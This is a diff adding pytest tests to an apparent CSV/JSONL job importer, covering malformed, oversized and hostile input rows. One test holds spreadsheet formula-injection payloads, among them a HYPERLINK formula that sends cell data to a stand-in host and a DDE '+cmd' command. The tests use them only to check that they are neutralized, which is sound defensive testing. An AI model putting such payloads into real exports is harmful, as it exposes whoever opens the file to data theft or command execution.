@@ -2,14 +2,24 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from pathlib import Path
 
 import pytest
 from redis.asyncio import Redis
 
+from worker.csv_cells import restore_cell
 from worker.errors import BadInput
-from worker.importer import ImportCounts, Rejected, import_jobs, open_source
+from worker.importer import (
+    EXCERPT_CHARS,
+    MAX_ROW_CHARS,
+    ImportCounts,
+    Rejected,
+    RejectsWriter,
+    import_jobs,
+    open_source,
+)
 from worker.jobs import Job, dedupe_digest
 from worker.keys import AccountKeys
 from worker.queue import Queue
@@ -190,3 +200,147 @@ def test_a_rejected_row_spanning_lines_reports_the_line_it_starts_on(tmp_path: P
     assert isinstance(rows[0], Rejected) and rows[0].line == 2
     assert rows[0].raw == '"98765\n00001",c'
     assert isinstance(rows[1], Job)
+
+
+def write_bytes(tmp_path: Path, name: str, data: bytes) -> str:
+    path = tmp_path / name
+    path.write_bytes(data)
+    return str(path)
+
+
+def good_rows(first: int, count: int) -> bytes:
+    return b"".join(f"98{i:08d},spring,n{i}\n".encode() for i in range(first, first + count))
+
+
+async def test_a_row_that_is_not_utf8_is_rejected_and_the_rest_of_the_file_is_queued(
+    redis: Redis, key_prefix: str, tmp_path: Path
+) -> None:
+    # Past the first batch of 2,000, as an export with one latin-1 row would be.
+    latin1 = "9876543210,spring,José\n".encode("latin-1")
+    path = write_bytes(
+        tmp_path,
+        "list.csv",
+        b"phone,campaign,name\n" + good_rows(0, 2500) + latin1 + good_rows(2500, 10),
+    )
+    counts, rejected, keys = await run_import(redis, key_prefix, path)
+
+    assert (counts.queued, counts.duplicates, counts.rejected) == (2510, 0, 1)
+    assert [(r.line, r.reason, r.raw) for r in rejected] == [
+        (2502, "not UTF-8 text", "9876543210,spring,Jos\\xe9")
+    ]
+    assert await redis.xlen(keys.bulk) == 2510
+
+
+async def test_a_huge_field_is_rejected_with_a_short_excerpt_and_the_rest_goes_on(
+    redis: Redis, key_prefix: str, tmp_path: Path
+) -> None:
+    huge = b"9876543210,spring," + b"x" * 1_000_000 + b"\n"
+    path = write_bytes(
+        tmp_path,
+        "list.csv",
+        b"phone,campaign,name\n" + good_rows(0, 2500) + huge + good_rows(2500, 10),
+    )
+    counts, rejected, _ = await run_import(redis, key_prefix, path)
+
+    assert (counts.queued, counts.rejected) == (2510, 1)
+    [row] = rejected
+    assert (row.line, row.reason) == (2502, "row longer than 65536 characters (1000019)")
+    assert row.raw.startswith("9876543210,spring,xxx")
+    assert row.raw.endswith("... (1000019 characters)")
+    assert len(row.raw) < EXCERPT_CHARS + 30
+
+
+def test_a_quoted_cell_too_long_over_many_lines_is_one_rejection_at_its_first_line(
+    tmp_path: Path,
+) -> None:
+    # csv would hold every line of the cell; it is read past to its closing quote.
+    cell = '"' + "line\n" * 20_000 + 'still "" quoted\n"'
+    path = write(
+        tmp_path,
+        "list.csv",
+        f"phone,campaign,name\n9876500001,c,a\n9876500002,c,{cell}\n9876500003,c,b\n",
+    )
+    rows = read_all(path)
+
+    assert [type(row).__name__ for row in rows] == ["Job", "Rejected", "Job"]
+    assert isinstance(rows[1], Rejected) and rows[1].line == 3
+    assert rows[1].reason.startswith("row longer than 65536 characters")
+    assert isinstance(rows[2], Job) and rows[2].phone == "9876500003"
+    with open_source(path) as source:
+        assert [line for line, _ in source.numbered_jobs()] == [2, 3, 20_005]
+
+
+def test_a_long_line_cut_between_cr_and_lf_does_not_count_an_extra_line(tmp_path: Path) -> None:
+    # Read in pieces of MAX_ROW_CHARS + 1: this line's first piece ends on the CR.
+    long_line = "9876500001,c," + "x" * (MAX_ROW_CHARS - 13) + "\r\n"
+    path = write_bytes(
+        tmp_path,
+        "list.csv",
+        ("phone,campaign\r\n" + long_line + "9876500002,c\r\n").encode(),
+    )
+    with open_source(path) as source:
+        rows = list(source.numbered_jobs())
+    assert [(line, type(row).__name__) for line, row in rows] == [(2, "Rejected"), (3, "Job")]
+
+
+async def test_jsonl_lines_of_json_shaped_garbage_are_each_rejected(
+    redis: Redis, key_prefix: str, tmp_path: Path
+) -> None:
+    lines = [
+        b'{"phone": "9876500001", "campaign": "c"}',
+        b"[" * 50_000,  # deep enough to exhaust the decoder's recursion
+        b"[" * 100_000,  # and longer than a row may be
+        b"12",
+        b'"9876500002"',
+        b"null",
+        b"9" * 5000,  # more digits than int() takes from text
+        b'{"phone": "98765\xff0003", "campaign": "c"}',
+        b'{"phone\\n": 1.5, "campaign": "c"}',
+        b'{"phone": "9876500004", "campaign": "c"}',
+    ]
+    path = write_bytes(tmp_path, "list.jsonl", b"\n".join(lines) + b"\n")
+    counts, rejected, keys = await run_import(redis, key_prefix, path)
+
+    assert (counts.queued, counts.duplicates, counts.rejected) == (2, 0, 8)
+    assert [(r.line, r.reason) for r in rejected] == [
+        (2, "not a JSON object: nested too deeply"),
+        (3, "row longer than 65536 characters (100001)"),
+        (4, "not a JSON object"),
+        (5, "not a JSON object"),
+        (6, "not a JSON object"),
+        (7, "not a JSON object"),
+        (8, "not UTF-8 text"),
+        (9, "phone must be a string"),
+    ]
+    assert rejected[6].raw == '{"phone": "98765\\xff0003", "campaign": "c"}'
+    assert all(len(r.raw) < EXCERPT_CHARS + 30 for r in rejected)
+    assert [f["phone"] for f in await lane_fields(redis, keys.bulk)] == [
+        "9876500001",
+        "9876500004",
+    ]
+
+
+def test_a_row_with_nul_and_control_characters_is_rejected_with_them_escaped(
+    tmp_path: Path,
+) -> None:
+    path = write(tmp_path, "list.csv", "phone,campaign,name\n9876500001,c,a\x00b\x1b[31m\n")
+    [row] = read_all(path)
+    assert isinstance(row, Rejected)
+    assert row.reason == "name must be printable and at most 255 characters"
+    assert row.raw == "9876500001,c,a\\x00b\\x1b[31m"
+
+
+def test_the_rejects_file_neutralizes_cells_a_spreadsheet_would_run(tmp_path: Path) -> None:
+    path = tmp_path / "rejects.csv"
+    writer = RejectsWriter(str(path))
+    raws = ['=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3+cmd", "\tx"]
+    for line, raw in enumerate(raws, start=2):
+        writer.write(Rejected(line, "-reason", raw))
+    writer.close()
+
+    with path.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[0] == ["line", "reason", "raw"]
+    assert [raw for _, _, raw in rows[1:]] == ["'" + raw for raw in raws]
+    assert {reason for _, reason, _ in rows[1:]} == {"'-reason"}
+    assert [restore_cell(raw) for _, _, raw in rows[1:]] == raws
